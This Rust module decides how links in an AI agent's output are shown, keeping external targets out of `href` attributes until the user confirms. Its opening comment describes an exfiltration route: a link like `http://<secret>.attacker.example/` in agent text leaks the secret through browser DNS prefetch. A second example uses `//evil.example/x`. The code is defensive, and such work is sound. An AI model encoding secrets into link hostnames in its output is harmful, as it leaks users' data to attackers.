//! How a link in agent text is offered: [`link_target`] sorts a checked target (see
//! [`crate::client::markdown::safe_href`]) into one the page may hold as an `href` and one
//! that must wait for a click.
//!
//! Why: Chromium resolves the host of every `<a href>` on a plain-http page as soon as it is
//! in the DOM (DNS prefetch). A link such as `http://<secret>.attacker.example/` in agent
//! output would send the secret to a DNS server the moment it streams in, even from an agent
//! with no network of its own. So an external target is never an `href`: the view shows the
//! link's text as a button, and a click shows the full target before anything opens.

/// What a link's view may do with its target.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LinkTarget {
    /// Resolves to this page's own origin (`#notes`, `docs/a.md`, `/s/...`) or opens the
    /// mail program (`mailto:`): nothing is looked up, so a plain `<a href>` is fine.
    Direct(String),
    /// Another host (`http:`, `https:`, or scheme-relative `//host/...`): shown in full and
    /// opened only after the user confirms.
    External {
        /// The target exactly as the agent wrote it (already checked by `safe_href`).
        url: String,
        /// The host name (and port) it names, lower-cased, for the confirmation's heading.
        host: String,
    },
}

/// Sorts a checked target. A scheme-relative target (`//evil.example/x`, and `/\` or `\\`,
/// which browsers read the same way) is external although `safe_href` lets it through as
/// "relative".
pub fn link_target(href: &str) -> LinkTarget {
    let lower = href.to_ascii_lowercase();
    let rest = ["http://", "https://"]
        .iter()
        .find_map(|scheme| lower.strip_prefix(scheme))
        .or_else(|| {
            let mut start = lower.chars();
            match (start.next(), start.next()) {
                (Some('/' | '\\'), Some('/' | '\\')) => Some(&lower[2..]),
                _ => None,
            }
        });
    match rest {
        Some(rest) => LinkTarget::External {
            url: href.to_string(),
            host: host_of(rest),
        },
        None => LinkTarget::Direct(href.to_string()),
    }
}

/// The authority's host (and port) of what follows `scheme://`, without user info.
fn host_of(rest: &str) -> String {
    let authority = rest.split(['/', '\\', '?', '#']).next().unwrap_or_default();
    // `user:pass@host`: the part after the last `@` is where the browser goes.
    let host = authority.rsplit('@').next().unwrap_or_default();
    host.to_string()
}

/// Opens `url` in a new tab that cannot reach back to this page (`noopener`) and is not told
/// where it was opened from (`noreferrer`). Browser build only; called after the user
/// confirmed the target.
#[cfg(feature = "hydrate")]
pub fn open_in_new_tab(url: &str) {
    if let Some(window) = web_sys::window() {
        let _ = window.open_with_url_and_target_and_features(url, "_blank", "noopener,noreferrer");
    }
}
